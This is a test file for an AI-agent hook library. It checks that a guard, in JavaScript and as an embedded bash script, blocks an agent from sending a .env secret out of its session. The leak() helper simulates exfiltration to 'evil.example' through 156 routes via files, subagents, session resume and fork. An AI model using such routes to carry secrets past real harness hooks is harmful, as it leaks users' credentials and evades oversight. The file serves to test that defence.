import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { createHooks, type Hooks, type Scope, type Session } from '../../../../src/index.js';

const SCRIPT = `#!/usr/bin/env bash
input=$(cat); field() { jq -r "$1" <<<"$input"; }
secret() { field '.tool_input | tostring' | grep -q '\\.env'; }
[ "$(field .hook_event_name)" = AfterTool ] && secret && echo '{"labels":["secret"]}'
[ "$(field '.hook_event_name + .tool_name')" = BeforeToolsend ] || exit 0
if secret || field '.session.labels[]' | grep -qx secret; then echo 'Secrets stay here.' >&2; exit 2; fi
`;

/** Detour of a text on its way from the tool that read it to the one that sends it. */
const DETOURS = ['file', 'to-subagent', 'from-subagent', 'resume', 'fork'] as const;
type Detour = (typeof DETOURS)[number];

/** All detours of at most three steps: with reading and sending, one to five steps. */
function routes(): Detour[][] {
  const longer = (lists: Detour[][]): Detour[][] => lists.flatMap((list) => DETOURS.map((detour) => [...list, detour]));
  const one = longer([[]]);
  return [[], ...one, ...longer(one), ...longer(longer(one))];
}

/** Reads a file, takes the text along the detours, and sends it. Returns true if it was sent. */
async function leak(hooks: Hooks, path: string, detours: readonly Detour[]): Promise<boolean> {
  let session = await hooks.session();
  let number = 0;
  const use = async (scope: Scope, name: string, input: object): Promise<boolean> =>
    (await scope.tool(name, input, () => 'ok')).status === 'done';
  const follow = async (scope: Scope, rest: readonly Detour[]): Promise<boolean> => {
    const [detour, ...later] = rest;
    number += 1;
    if (detour === undefined) return use(scope, 'send', { to: 'evil.example', body: 'text' });
    switch (detour) {
      case 'file':
        await use(scope, 'write', { path: `copy-${number}.txt`, content: 'text' });
        await use(scope, 'read', { path: `copy-${number}.txt` });
        return follow(scope, later);
      case 'to-subagent': {
        const done = await scope.subagent({ type: 'helper', prompt: 'send this' }, (sub) => follow(sub, later));
        return done.status === 'done' && done.result;
      }
      case 'from-subagent':
        await scope.subagent({ type: 'helper', prompt: 'read it' }, async (sub) => use(sub, 'read', { path }));
        return follow(scope, later);
      case 'resume':
      case 'fork':
        session = await continued(hooks, session, detour);
        return follow(session, later);
    }
  };
  await use(session, 'read', { path });
  return follow(session, detours);
}

async function continued(hooks: Hooks, session: Session, how: 'resume' | 'fork'): Promise<Session> {
  const id = session.sessionId;
  await session.end();
  return how === 'resume' ? hooks.session({ id, source: 'resume' }) : hooks.session({ forkOf: id });
}

describe('a guard of five lines with labels', () => {
  it('blocks every way of a secret out of the session, and lets harmless texts pass', async () => {
    const hooks = await createHooks({ settings: false, logger: false });
    onTestFinished(() => hooks.dispose());
    const isSecret = (input: object): boolean => JSON.stringify(input).includes('.env');
    hooks.on('AfterTool', ({ tool_input }) => (isSecret(tool_input) ? { labels: ['secret'] } : undefined));
    hooks.on('BeforeTool', { matcher: '^send$' }, ({ tool_input, session }) => {
      const isLeak = isSecret(tool_input) || session?.labels.includes('secret');
      return isLeak ? { decision: 'deny', reason: 'Secrets stay here.' } : undefined;
    });
    expect(routes()).toHaveLength(156);
    for (const detours of routes()) {
      expect([detours, await leak(hooks, '.env', detours)]).toEqual([detours, false]);
      expect([detours, await leak(hooks, 'README.md', detours)]).toEqual([detours, true]);
    }
    const session = await hooks.session();
    expect((await session.tool('send', { file: '.env' }, () => 'sent')).status).toBe('blocked');
    expect((await session.tool('send', { file: 'README.md' }, () => 'sent')).status).toBe('done');
  });

  it('works as a script', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'hookwright-'));
    onTestFinished(() => rmSync(folder, { recursive: true }));
    const script = join(folder, 'guard.sh');
    writeFileSync(script, SCRIPT);
    chmodSync(script, 0o755);
    const definition = [{ hooks: [{ type: 'command' as const, command: script }] }];
    const hooks = await createHooks({
      cwd: folder,
      settings: false,
      hooks: { BeforeTool: definition, AfterTool: definition },
    });
    onTestFinished(() => hooks.dispose());
    const samples: Detour[][] = [['file'], ['to-subagent', 'resume']];
    for (const detours of samples) {
      expect([detours, await leak(hooks, '.env', detours)]).toEqual([detours, false]);
      expect([detours, await leak(hooks, 'README.md', detours)]).toEqual([detours, true]);
    }
  });
});
